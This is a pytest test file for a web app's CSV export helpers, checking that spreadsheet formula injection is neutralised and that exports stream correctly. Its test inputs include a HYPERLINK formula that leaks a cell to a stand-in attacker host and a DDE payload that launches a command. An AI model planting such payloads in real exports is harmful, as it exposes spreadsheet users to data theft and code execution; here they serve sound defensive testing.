import csv
import datetime
import io

import pytest

from frontdoor.core.spreadsheet import csv_lines, csv_response, safe_cell


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://evil.example/?leak="&A1, "Click")',
        "+44 7700 900123",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",  # OWASP's list has had line feed since 2025
        "\x00=1+1",  # and ASVS's, NUL
        "=cmd|' /C calc'!A0",
    ],
)
def test_a_cell_a_spreadsheet_would_read_as_a_formula_is_text(typed: str) -> None:
    assert safe_cell(typed) == "'" + typed


@pytest.mark.parametrize("typed", ["Zoë Smith-Jones", "St Mary's = good", "a-b", "", " =x"])
def test_other_text_is_written_as_it_is(typed: str) -> None:
    assert safe_cell(typed) == typed


def test_numbers_dates_and_empty_values() -> None:
    assert safe_cell(-3) == -3
    assert safe_cell(2.5) == 2.5
    assert safe_cell(datetime.date(2026, 12, 2)) == datetime.date(2026, 12, 2)
    assert safe_cell(None) == ""
    assert safe_cell(True) == "Yes"


def test_the_file_reads_back_as_written_with_formulas_neutralised() -> None:
    rows = [["FD-2026-000001", '=HYPERLINK("https://x.example","Zoë")', 'say "hi",\nbye']]
    text = "".join(csv_lines(["Reference", "Child", "Note"], rows))
    assert text.startswith("\ufeff")
    read = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert read == [
        ["Reference", "Child", "Note"],
        ["FD-2026-000001", '\'=HYPERLINK("https://x.example","Zoë")', 'say "hi",\nbye'],
    ]


def test_rows_are_streamed_as_they_are_read() -> None:
    read = []

    def rows():
        for n in range(10_000):
            read.append(n)
            yield [n]

    response = csv_response("inbox.csv", ["n"], rows())
    assert response.streaming
    assert response["Content-Disposition"] == 'attachment; filename="inbox.csv"'
    assert "no-store" in response["Cache-Control"]
    chunks = iter(response.streaming_content)
    next(chunks), next(chunks), next(chunks)  # the mark, the header, the first row
    assert read == [0]  # nothing read ahead
    assert sum(1 for _ in chunks) == 9_999
